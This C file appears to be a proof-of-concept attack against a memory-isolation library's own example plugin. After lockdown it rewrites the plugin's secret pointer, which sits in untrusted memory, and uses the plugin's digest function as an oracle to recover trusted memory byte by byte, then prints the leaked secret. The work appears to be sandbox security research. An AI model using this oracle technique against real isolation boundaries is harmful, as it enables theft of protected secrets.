/* Attack 1 (application level, on the project's own preload example):
 * tests/install/preload/plugin.c keeps the pointer to its trusted secret in
 * its own .bss (untrusted memory) and its registered entry "digest" hashes
 * 32 bytes at that pointer with the domain's rights. After the lockdown the
 * attacker rewrites the pointer and uses plugin_digest() as an oracle on
 * any trusted address: with 31 known (zero) bytes after a target byte, one
 * digest and 256 offline guesses give the byte.
 * usage: LD_PRELOAD=libcordon.so oracle_host PLUGIN  (secret goes to fd 2
 * before lockdown, LEAKED <hex> on stdout after). */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <link.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

typedef int cordon_domain_t;
static uint64_t fnv(uint64_t nonce, const unsigned char* b) {
  uint64_t h = 1469598103934665603ull ^ nonce;
  for (int i = 0; i < 32; ++i) h = (h ^ b[i]) * 1099511628211ull;
  return h;
}
static uintptr_t wlo, whi;
static const char* want;
static int cb(struct dl_phdr_info* i, size_t n, void* a) {
  (void)n, (void)a;
  if (!strstr(i->dlpi_name, want)) return 0;
  for (int k = 0; k < i->dlpi_phnum; ++k)
    if (i->dlpi_phdr[k].p_type == PT_LOAD && (i->dlpi_phdr[k].p_flags & PF_W)) {
      wlo = i->dlpi_addr + i->dlpi_phdr[k].p_vaddr;
      whi = wlo + i->dlpi_phdr[k].p_memsz;
    }
  return 0;
}
int main(int argc, char** argv) {
  if (argc != 2) return 2;
  void* pl = dlopen(argv[1], RTLD_NOW);
  if (!pl) { fprintf(stderr, "%s\n", dlerror()); return 3; }
  int (*start)(int) = (int (*)(int))dlsym(pl, "plugin_start");
  uint64_t (*digest)(uint64_t) = (uint64_t(*)(uint64_t))dlsym(pl, "plugin_digest");
  int (*region)(cordon_domain_t, void**, size_t*) = (int (*)(cordon_domain_t, void**, size_t*))dlsym(RTLD_DEFAULT, "cordon_domain_region");
  cordon_domain_t (*td)(void) = (cordon_domain_t(*)(void))dlsym(RTLD_DEFAULT, "cordon_trusted_domain");
  if (!start || !digest || !region || !td) return 4;
  if (start(dup(2)) != 0) return 5;
  /* ---- locked down: attacker from here on ---- */
  void* rs; size_t rn;
  if (region(td(), &rs, &rn) != 0) return 6;
  want = strrchr(argv[1], '/') ? strrchr(argv[1], '/') + 1 : argv[1];
  dl_iterate_phdr(cb, NULL);
  uint64_t* slot = NULL;
  for (uintptr_t p = wlo & ~7ul; p + 8 <= whi; p += 8) {
    uint64_t v = *(uint64_t*)p;
    if (v >= (uintptr_t)rs && v < (uintptr_t)rs + rn) { slot = (uint64_t*)p; break; }
  }
  if (!slot) { printf("no trusted pointer in the plugin's data\n"); return 7; }
  const uint64_t S = *slot;
  printf("attack: plugin's secret pointer at %p -> %#lx\n", (void*)slot, (unsigned long)S);
  const uint64_t ref = digest(7);
  /* Recover backward from the end of the secret's page, assuming only that
   * the last 31 bytes of the page are zero (an unused part of the slab). */
  enum { kTop = 4096 - 32 };
  static unsigned char mem[4096 + 32]; /* mem[i] = byte at S + i */
  for (int k = kTop; k >= 0; --k) {
    *slot = S + k;
    const uint64_t h = digest(7);
    int found = -1;
    for (int g = 0; g < 256; ++g) {
      unsigned char b[32];
      b[0] = (unsigned char)g;
      memcpy(b + 1, mem + k + 1, 31);
      if (fnv(7, b) == h) { found = g; break; }
    }
    if (found < 0) { printf("attack: byte %d not found\n", k); *slot = S; return 8; }
    mem[k] = (unsigned char)found;
  }
  unsigned char* win = mem - 31;
  int nz = 0;
  for (int i = 32; i < 4096; ++i) nz += mem[i] != 0;
  printf("attack: %d nonzero bytes in the rest of the secret's page\n", nz);
  *slot = S;
  printf("attack: self-check %s\n", fnv(7, win + 31) == ref ? "ok" : "MISMATCH");
  printf("LEAKED ");
  for (int i = 0; i < 32; ++i) printf("%02x", win[31 + i]);
  printf("\n");
  return 0;
}
